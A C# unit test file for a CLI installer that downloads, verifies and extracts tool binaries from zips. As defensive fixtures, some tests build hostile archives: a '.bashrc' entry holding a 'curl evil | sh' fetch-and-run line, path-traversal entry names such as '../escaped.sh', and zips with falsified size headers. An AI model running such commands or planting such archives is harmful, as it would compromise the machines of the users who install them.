using System.IO.Compression;
using System.Text.Json.Nodes;
using Pipeline.Mirroring.CliInstall;
using Pipeline.Mirroring.Downloads;
using Pipeline.Repositories.Fetching;
using Pipeline.Repositories.Sources;
using Pipeline.Testing.Downloads;
using Pipeline.Testing.Trees;

namespace Pipeline.Mirroring.Tests.CliInstall;

public sealed class CliInstallerTests : IAsyncLifetime, IDisposable
{
    private readonly MirrorTrees _folders = new();
    private readonly HttpClient _http = UpstreamClient.ForDownloads();
    private DownloadServer _server = null!;

    public async Task InitializeAsync() => _server = await DownloadServer.StartAsync();

    public async Task DisposeAsync() => await _server.DisposeAsync();

    public void Dispose()
    {
        _http.Dispose();
        _folders.Dispose();
    }

    private string BinDir => _folders.Path("bin");

    private static PackageDefinition Package(JsonObject? resource, JsonObject? command = null) =>
        new("tool", "1.0.0", 0, "4.0", new JsonObject { ["name"] = "tool" }, null, resource, command, []);

    private Task<CliInstallResult> InstallAsync(PackageDefinition package, CliPlatform? platform = null) =>
        new CliInstaller(new VerifiedDownloader(_http, new DownloadOptions { RetryDelay = TimeSpan.Zero })).InstallAsync(package, BinDir, platform ?? CliPlatform.Linux);

    private static byte[] Zip(params (string Name, byte[] Content)[] entries)
    {
        using var buffer = new MemoryStream();
        using (var zip = new ZipArchive(buffer, ZipArchiveMode.Create, leaveOpen: true))
        {
            foreach (var (name, content) in entries)
            {
                using var stream = zip.CreateEntry(name).Open();
                stream.Write(content);
            }
        }
        return buffer.ToArray();
    }

    [Fact]
    public async Task InstallsTheLinuxBinaryExecutable()
    {
        var binary = MirrorTrees.Bytes(12_000);
        var url = _server.Add("cli/linux/dcos-tool", binary);

        var result = await InstallAsync(Package(MirrorTrees.CliResource(url, MirrorTrees.Sha256(binary))));

        result.Outcome.Should().Be(CliInstallOutcome.Installed, result.Message);
        var installed = Path.Combine(BinDir, "dcos-tool");
        result.InstalledFiles.Should().Equal(installed);
        File.ReadAllBytes(installed).Should().Equal(binary);
        if (!OperatingSystem.IsWindows()) File.GetUnixFileMode(installed).Should().HaveFlag(UnixFileMode.UserExecute);
    }

    [Fact]
    public async Task ExtractsTheDeclaredBinaryFromAZip()
    {
        var program = MirrorTrees.Bytes(3_000);
        var archive = Zip(("bin/dcos-tool", program), ("share/README.txt", "read me"u8.ToArray()));
        var url = _server.Add("cli/tool.zip", archive);

        var result = await InstallAsync(Package(MirrorTrees.CliResource(url, MirrorTrees.Sha256(archive), kind: "zip")));

        result.Outcome.Should().Be(CliInstallOutcome.Installed, result.Message);
        result.InstalledFiles.Should().Equal(Path.Combine(BinDir, "dcos-tool"));
        File.ReadAllBytes(Path.Combine(BinDir, "dcos-tool")).Should().Equal(program);
        Directory.EnumerateFileSystemEntries(BinDir).Select(Path.GetFileName).Should().Equal("dcos-tool");
        if (!OperatingSystem.IsWindows()) File.GetUnixFileMode(Path.Combine(BinDir, "dcos-tool")).Should().HaveFlag(UnixFileMode.UserExecute);
    }

    [Fact]
    public async Task NothingButTheDeclaredBinaryOfAZipReachesTheBinFolder()
    {
        Directory.CreateDirectory(BinDir);
        File.WriteAllText(Path.Combine(BinDir, ".bashrc"), "mine");
        var program = MirrorTrees.Bytes(2_000);
        var archive = Zip((".bashrc", "curl evil | sh"u8.ToArray()), ("a/b", "x"u8.ToArray()), ("..foo", "y"u8.ToArray()), ("dcos-tool", program));
        var url = _server.Add("cli/hostile.zip", archive);

        var result = await InstallAsync(Package(MirrorTrees.CliResource(url, MirrorTrees.Sha256(archive), kind: "zip")));

        result.Outcome.Should().Be(CliInstallOutcome.Installed, result.Message);
        Directory.EnumerateFileSystemEntries(BinDir).Select(Path.GetFileName).Should().BeEquivalentTo(".bashrc", "dcos-tool");
        File.ReadAllText(Path.Combine(BinDir, ".bashrc")).Should().Be("mine");
        File.ReadAllBytes(Path.Combine(BinDir, "dcos-tool")).Should().Equal(program);
    }

    [Fact]
    public async Task AZipWithoutTheDeclaredBinaryInstallsNothing()
    {
        var archive = Zip(("other-tool", MirrorTrees.Bytes(100)));
        var url = _server.Add("cli/other.zip", archive);

        var result = await InstallAsync(Package(MirrorTrees.CliResource(url, MirrorTrees.Sha256(archive), kind: "zip")));

        result.Outcome.Should().Be(CliInstallOutcome.Failed);
        result.Message.Should().Contain("holds no `dcos-tool`").And.Contain("nothing was installed");
        Directory.EnumerateFileSystemEntries(BinDir).Should().BeEmpty();
    }

    [Theory]
    [InlineData(CompressionLevel.Optimal, 100)]
    [InlineData(CompressionLevel.Optimal, 5_000)]
    [InlineData(CompressionLevel.NoCompression, 100)]
    public async Task AZipThatLiesAboutItsSizeInstallsNothing(CompressionLevel level, int declared)
    {
        var archive = LyingZip("dcos-tool", MirrorTrees.Bytes(1_000), level, declared);
        var url = _server.Add("cli/lying.zip", archive);

        var result = await InstallAsync(Package(MirrorTrees.CliResource(url, MirrorTrees.Sha256(archive), kind: "zip")));

        result.Outcome.Should().Be(CliInstallOutcome.Failed);
        result.Message.Should().Contain($"declares {declared:N0} bytes").And.Contain("nothing was installed");
        Directory.EnumerateFileSystemEntries(BinDir).Should().BeEmpty();
    }

    /// <summary>A one-entry zip whose headers (local and central) declare <paramref name="declared"/> uncompressed bytes.</summary>
    private static byte[] LyingZip(string name, byte[] content, CompressionLevel level, int declared)
    {
        using var buffer = new MemoryStream();
        using (var zip = new ZipArchive(buffer, ZipArchiveMode.Create, leaveOpen: true))
        {
            using var stream = zip.CreateEntry(name, level).Open();
            stream.Write(content);
        }
        var bytes = buffer.ToArray();
        BitConverter.GetBytes(declared).CopyTo(bytes, 22);
        for (var i = 0; i + 4 <= bytes.Length; i++)
        {
            if (BitConverter.ToUInt32(bytes, i) == 0x02014b50) BitConverter.GetBytes(declared).CopyTo(bytes, i + 24);
        }
        return bytes;
    }

    [Theory]
    [InlineData("../escaped.sh")]
    [InlineData("bin/../../escaped.sh")]
    [InlineData("/tmp/escaped.sh")]
    public async Task AZipEntryOutsideTheFolderRefusesTheWholeArchive(string entry)
    {
        var archive = Zip(("dcos-tool", MirrorTrees.Bytes(100)), (entry, "#!/bin/sh\n"u8.ToArray()));
        var url = _server.Add("cli/slip.zip", archive);

        var result = await InstallAsync(Package(MirrorTrees.CliResource(url, MirrorTrees.Sha256(archive), kind: "zip")));

        result.Outcome.Should().Be(CliInstallOutcome.Failed);
        result.Message.Should().Contain("outside the folder").And.Contain("nothing was installed");
        Directory.EnumerateFileSystemEntries(BinDir).Should().BeEmpty();
        File.Exists(_folders.Path("escaped.sh")).Should().BeFalse();
    }

    [Fact]
    public async Task AHashMismatchInstallsNothing()
    {
        var url = _server.Add("cli/dcos-tool", MirrorTrees.Bytes(5_000, seed: 1));

        var result = await InstallAsync(Package(MirrorTrees.CliResource(url, MirrorTrees.Sha256(MirrorTrees.Bytes(5_000, seed: 2)))));

        result.Outcome.Should().Be(CliInstallOutcome.Failed);
        result.HashMismatch.Should().BeTrue();
        result.Message.Should().Contain("sha256 mismatch");
        Directory.Exists(BinDir).Should().BeTrue();
        Directory.EnumerateFileSystemEntries(BinDir).Should().BeEmpty();
    }

    [Fact]
    public async Task ACommandJsonGivesThePipCommand()
    {
        var command = new JsonObject { ["pip"] = new JsonArray("https://example.com/dcos_tool-1.0-py3-none-any.whl", "requests>=2.0") };

        var result = await InstallAsync(Package(null, command));

        result.Outcome.Should().Be(CliInstallOutcome.PipCommand);
        result.PipCommand.Should().Be("pip install https://example.com/dcos_tool-1.0-py3-none-any.whl 'requests>=2.0'");
        _server.Requests.Should().BeEmpty();
    }

    [Fact]
    public async Task APlatformWithoutABinaryIsNamedWithWhatThereIs()
    {
        var url = _server.Add("cli/dcos-tool", MirrorTrees.Bytes(10));

        var result = await InstallAsync(Package(MirrorTrees.CliResource(url, MirrorTrees.Sha256(MirrorTrees.Bytes(10)))), new CliPlatform("darwin", "x86-64"));

        result.Outcome.Should().Be(CliInstallOutcome.NotAvailable);
        result.Message.Should().Contain("darwin/x86-64").And.Contain("linux/x86-64");
        _server.Requests.Should().BeEmpty();
    }

    [Fact]
    public void TheDefaultBinFolderFollowsXdg()
    {
        BinDirectory.Default(n => n == "XDG_BIN_HOME" ? "/opt/bin" : "/home/u").Should().Be("/opt/bin");
        BinDirectory.Default(n => n == "HOME" ? "/home/u" : null).Should().Be(Path.Combine("/home/u", ".local", "bin"));
        BinDirectory.Default(_ => null).Should().BeNull();
    }
}
